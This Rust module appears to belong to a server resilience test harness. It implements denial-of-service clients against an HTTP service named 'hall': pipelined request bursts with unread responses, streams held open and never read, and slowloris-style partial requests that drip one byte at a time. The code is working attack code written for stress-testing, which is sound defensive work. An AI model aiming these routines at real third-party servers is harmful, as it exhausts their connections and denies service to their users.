//! Attacks with connections: who asks and does not read, and who never finishes asking.

use std::io;
use std::net::SocketAddr;
use std::time::{Duration, Instant};

use budokan_kernel::Quick;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpSocket, TcpStream};
use tokio::time::{sleep, timeout};

use super::enemy::{Enemy, status};
use crate::wire::http::connect_from;

/// So often a file is asked for at once.
const AT_ONCE: usize = 200;
/// How long between two bursts.
const NOTICE: Duration = Duration::from_millis(50);
/// How long one waits before trying for a place again.
const AGAIN: Duration = Duration::from_secs(1);
/// How long between two bytes of somebody who is slow.
const SLOWLY: Duration = Duration::from_millis(700);

/// Connects with small buffers at our end: what is not read must wait at the other, and what is sent has arrived there.
async fn connect_deaf(enemy: &Enemy) -> io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    socket.set_recv_buffer_size(4096)?;
    socket.set_send_buffer_size(16 * 1024)?;
    socket.bind(SocketAddr::new(enemy.source, 0))?;
    socket.connect(enemy.hall).await
}

/// Asks for many files at once and reads nothing, until the connection is cut; then again.
pub async fn reads_nothing(enemy: Enemy, path: String) {
    let request = format!("GET {path} HTTP/1.1\r\nhost: hall\r\n\r\n");
    let burst = request.repeat(AT_ONCE);
    loop {
        if let Ok(mut socket) = connect_deaf(&enemy).await {
            while socket.write_all(burst.as_bytes()).await.is_ok() {
                for _ in 0..AT_ONCE {
                    enemy.tally.sends();
                }
                // Whoever was turned away at the door notices it now.
                sleep(NOTICE).await;
            }
            enemy.tally.cut();
        }
        sleep(AGAIN).await;
    }
}

/// Opens a stream and never reads it; the connection is kept until it is cut.
pub async fn follows_blindly(enemy: Enemy, path: String) {
    loop {
        if let Ok(mut socket) = connect_deaf(&enemy).await {
            enemy.tally.sends();
            let request = format!("GET {path} HTTP/1.1\r\nhost: hall\r\n\r\n");
            if socket.write_all(request.as_bytes()).await.is_ok() {
                // Nothing can be learnt of a stream without reading it; for a while it is left alone.
                sleep(Duration::from_secs(45)).await;
            }
        }
        sleep(AGAIN).await;
    }
}

/// Half requests, a byte now and then.
pub async fn is_slow(mut enemy: Enemy, token: String) {
    loop {
        let began = Instant::now();
        if let Ok(socket) = connect_from(enemy.source, enemy.hall).await {
            enemy.tally.sends();
            let (head, drip) = half_request(&mut enemy.luck, &token);
            match drips(socket, &head, drip).await {
                Some(status) => enemy.tally.answered(status),
                None => enemy.tally.cut(),
            }
        }
        // Whoever is turned away at the door comes back soon, but does not spin.
        sleep(AGAIN.saturating_sub(began.elapsed())).await;
    }
}

/// The begin of a request, and the byte that goes on and on.
fn half_request(luck: &mut Quick, token: &str) -> (String, u8) {
    let long = format!(
        "POST /api/bouts HTTP/1.1\r\nhost: hall\r\nauthorization: Bearer {token}\r\ncontent-type: application/json\r\n"
    );
    match luck.below(5) {
        0 => (String::new(), b'G'),
        1 => ("GET / HTTP/1.1\r\nhost: ha".to_owned(), b'a'),
        2 => ("GET / HTTP/1.1\r\n".to_owned(), b'x'),
        3 => (format!("{long}content-length: 15000\r\n\r\n{{"), b' '),
        _ => (format!("{long}transfer-encoding: chunked\r\n\r\n"), b'0'),
    }
}

/// Sends a byte now and then; the status of the answer when there is one, nothing when the connection is gone.
async fn drips(mut socket: TcpStream, head: &str, drip: u8) -> Option<u16> {
    socket.write_all(head.as_bytes()).await.ok()?;
    let (mut came, mut some) = (Vec::new(), [0; 512]);
    loop {
        match timeout(SLOWLY, socket.read(&mut some)).await {
            Err(_) => socket.write_all(&[drip]).await.ok()?,
            Ok(Ok(0) | Err(_)) => return None,
            Ok(Ok(read)) => {
                came.extend_from_slice(&some[..read]);
                if let Some(status) = status(&came) {
                    return Some(status);
                }
            }
        }
    }
}
